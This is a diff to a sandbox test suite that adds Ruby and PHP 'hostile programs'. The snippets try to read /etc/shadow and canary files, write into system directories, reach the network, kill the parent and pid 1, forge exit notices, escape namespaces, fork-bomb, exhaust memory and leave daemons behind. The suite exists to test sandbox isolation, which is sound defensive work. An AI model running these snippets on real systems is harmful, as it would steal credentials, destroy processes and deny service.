@@ -1,4 +1,4 @@
-"""Per-language attacks: Java, Go, Rust, JavaScript (node) and bash, against the same probes as Python's.
+"""Per-language attacks: Java, Go, Rust, JavaScript (node), bash, ruby and php, against Python's probes.
 
 Each language gets the attacks its runtime makes easy: fork bombs (and thread bombs for the
 JVM and Go, whose runtimes start threads freely), the network (the host's loopback listeners,
@@ -720,7 +720,169 @@ BASH_PROGRAMS: list[HostileProgram] = [
         '''),
 ]
 
-PROGRAMS: list[HostileProgram] = JAVA_PROGRAMS + GO_PROGRAMS + RUST_PROGRAMS + NODE_PROGRAMS + BASH_PROGRAMS
+# -- ruby (forked from the slot's warm ruby: sandbox/runtime/fork_servers.py) ---------------------------
+RUBY_PROGRAMS: list[HostileProgram] = [
+    HostileProgram(
+        "ruby_escape", E, language="ruby", problem="canary", allowed=RAN, followup=LEFTOVERS,
+        description="ruby: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
+                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server) and "
+                    "forge an exit notice on fd 3 (the server's socket, were it inherited); unshare/nsenter",
+        code=r'''
+            def esc(what) = puts("ESC" + "APED:#{what}")
+            (3..64).each do |fd|          # first, before it opens anything: what it inherited
+              what = File.readlink("/proc/self/fd/#{fd}") rescue next
+              (IO.for_fd(fd, autoclose: false).write("X #{$$} 0 0 0 0"); esc("wrote fd #{fd} #{what}")) rescue nil
+            end
+            require "socket"
+            ["/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"].each do |p|
+              data = (File.read(p) rescue nil)
+              esc("read #{p}") if data && p.include?("@@TOKEN@@")
+            end
+            ["/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"].each do |d|
+              esc("listed #{d}") if (Dir.children(d) rescue []).any? { |name| name.include?("@@TOKEN@@") }
+            end
+            ["/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"].each do |d|
+              (File.write("#{d}/hostile-@@TOKEN@@-ruby", "left by ruby") && puts("wrote in #{d}")) rescue nil
+            end
+            [["127.0.0.1", @@TCP_PORT@@], ["::1", @@TCP6_PORT@@], ["1.1.1.1", 443]].each do |host, port|
+              (Socket.tcp(host, port, connect_timeout: 0.3).close; esc("tcp #{host}")) rescue nil
+            end
+            (esc("dns") unless Addrinfo.getaddrinfo("example.com", 80).empty?) rescue nil
+            (UDPSocket.new.send("hostile-@@TOKEN@@", 0, "127.0.0.1", @@UDP_PORT@@)) rescue nil
+            [:TERM, :HUP, :STOP].each do |sig|
+              (Process.kill(sig, Process.ppid); esc("signalled the parent")) rescue nil
+            end
+            system("unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@")
+            exit 0
+        '''),
+    HostileProgram(
+        "ruby_fork_bomb", X, language="ruby", allowed=FORK_BOMB, followup=LEFTOVERS,
+        description="ruby: every child forks forever (Process.fork until refused, then again)",
+        code=r'''
+            loop { (Process.fork { loop { Process.fork rescue sleep(0.001) } }) rescue sleep(0.001) }
+        '''),
+    HostileProgram(
+        "ruby_memory_hog", X, language="ruby", allowed=HOG, watch_memory=True,
+        description="ruby: a 2 GB string, then another",
+        code=r'''
+            kept = []
+            loop { kept << ("a" * 256_000_000) }
+        '''),
+    HostileProgram(
+        "ruby_kill_everyone", G, language="ruby", problem="add", allowed=RAN,
+        description="ruby: SIGKILL -1, its parent (the fork server) and pid 1, SIGTERM its group, redefine "
+                    "Kernel#exit and at_exit to exit 0, then a wrong answer",
+        code=r'''
+            [-1, Process.ppid, 1].each { |pid| Process.kill(:KILL, pid) rescue nil }
+            trap(:TERM) {}
+            Process.kill(:TERM, 0) rescue nil
+            module Kernel
+              def exit(*) = exit!(0)
+            end
+            at_exit { exit!(0) }
+            a, b = gets.split.map(&:to_i)
+            puts a + b + 1
+        '''),
+    HostileProgram(
+        "ruby_daemon_leftover", P, language="ruby", allowed=RAN, followup=LEFTOVERS,
+        description="ruby: a setsid'd double fork that ignores HUP and TERM, Process.daemon, a spawned marked sleeper",
+        code=r'''
+            Process.fork do
+              Process.setsid
+              Process.fork { trap(:HUP) {}; trap(:TERM) {}; exec("bash", "-c", "exec -a @@MARK@@-ruby sleep 30") }
+              exit!(0)
+            end
+            Process.fork { Process.daemon(true, true); exec("bash", "-c", "exec -a @@MARK@@-daemon sleep 30") }
+            Process.detach(spawn("bash", "-c", "exec -a @@MARK@@-spawn sleep 30", pgroup: true))
+            puts "done"
+        '''),
+]
+
+# -- php (forked from the slot's warm php: sandbox/runtime/fork_servers.py) -----------------------------
+PHP_PROGRAMS: list[HostileProgram] = [
+    HostileProgram(
+        "php_escape", E, language="php", problem="canary", allowed=RAN, followup=LEFTOVERS,
+        description="php: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
+                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server), forge "
+                    "an exit notice on every inherited fd, FFI to unshare a user namespace; unshare/nsenter",
+        code=r'''<?php
+            function esc($what) { echo "ESC" . "APED:$what\n"; }
+            foreach (scandir("/proc/self/fd") as $fd) {       // first: what it inherited
+                if (!ctype_digit($fd) || (int)$fd < 3) continue;
+                $what = @readlink("/proc/self/fd/$fd");
+                $f = @fopen("php://fd/$fd", "w");
+                if ($f && @fwrite($f, "X " . getmypid() . " 0 0 0 0")) esc("wrote fd $fd $what");
+            }
+            foreach (["/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"] as $p) {
+                $data = @file_get_contents($p);
+                if ($data !== false && str_contains($p, "@@TOKEN@@")) esc("read $p");
+            }
+            foreach (["/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"] as $d) {
+                foreach (@scandir($d) ?: [] as $name) if (str_contains($name, "@@TOKEN@@")) esc("listed $d");
+            }
+            foreach (["/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"] as $d) {
+                if (@file_put_contents("$d/hostile-@@TOKEN@@-php", "left by php") !== false) echo "wrote in $d\n";
+            }
+            foreach ([["127.0.0.1", @@TCP_PORT@@], ["[::1]", @@TCP6_PORT@@], ["1.1.1.1", 443]] as [$host, $port]) {
+                $s = @stream_socket_client("tcp://$host:$port", $errno, $errstr, 0.3);
+                if ($s) esc("tcp $host");
+            }
+            if (@gethostbyname("example.com") !== "example.com") esc("dns");
+            $u = @stream_socket_client("udp://127.0.0.1:@@UDP_PORT@@");
+            if ($u) @fwrite($u, "hostile-@@TOKEN@@");
+            foreach ([SIGTERM, SIGHUP, SIGSTOP] as $sig) if (@posix_kill(posix_getppid(), $sig)) esc("signalled the parent");
+            try {
+                $ffi = FFI::cdef("int unshare(int flags);", "libc.so.6");
+                if ($ffi->unshare(0x10000000) === 0) esc("user namespace");
+            } catch (Throwable $e) { echo get_class($e), "\n"; }
+            system("unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@");
+            exit(0);
+        '''),
+    HostileProgram(
+        "php_fork_bomb", X, language="php", allowed=FORK_BOMB, followup=LEFTOVERS,
+        description="php: every child forks forever (pcntl_fork until refused, then again)",
+        code=r'''<?php
+            while (true) { if (@pcntl_fork() === 0) { while (true) { @pcntl_fork() ?: usleep(1000); } } usleep(1000); }
+        '''),
+    HostileProgram(
+        "php_memory_hog", X, language="php", allowed=HOG, watch_memory=True,
+        description="php: 256 MB strings until refused (memory_limit lifted)",
+        code=r'''<?php
+            ini_set("memory_limit", "-1");
+            $kept = [];
+            while (true) { $kept[] = str_repeat("a", 256000000); }
+        '''),
+    HostileProgram(
+        "php_kill_everyone", G, language="php", problem="add", allowed=RAN,
+        description="php: SIGKILL -1, its parent (the fork server) and pid 1, SIGTERM its group, a shutdown "
+                    "function and an output callback that exit 0, then a wrong answer",
+        code=r'''<?php
+            foreach ([-1, posix_getppid(), 1] as $pid) @posix_kill($pid, SIGKILL);
+            pcntl_signal(SIGTERM, SIG_IGN);
+            @posix_kill(0, SIGTERM);
+            register_shutdown_function(function () { exit(0); });
+            [$a, $b] = array_map("intval", explode(" ", trim(fgets(STDIN))));
+            echo $a + $b + 1, "\n";
+        '''),
+    HostileProgram(
+        "php_daemon_leftover", P, language="php", allowed=RAN, followup=LEFTOVERS,
+        description="php: a setsid'd double fork that ignores HUP and TERM, and a marked sleeper started by the shell",
+        code=r'''<?php
+            if (pcntl_fork() === 0) {
+                posix_setsid();
+                if (pcntl_fork() === 0) {
+                    pcntl_signal(SIGHUP, SIG_IGN); pcntl_signal(SIGTERM, SIG_IGN);
+                    pcntl_exec("/bin/bash", ["-c", "exec -a @@MARK@@-php sleep 30"]);
+                }
+                exit(0);
+            }
+            exec("setsid -f bash -c 'exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1");
+            echo "done\n";
+        '''),
+]
+
+PROGRAMS: list[HostileProgram] = (JAVA_PROGRAMS + GO_PROGRAMS + RUST_PROGRAMS + NODE_PROGRAMS + BASH_PROGRAMS
+                                  + RUBY_PROGRAMS + PHP_PROGRAMS)
 
 # -- correct programs these runtimes must be able to run ---------------------------------------------
 
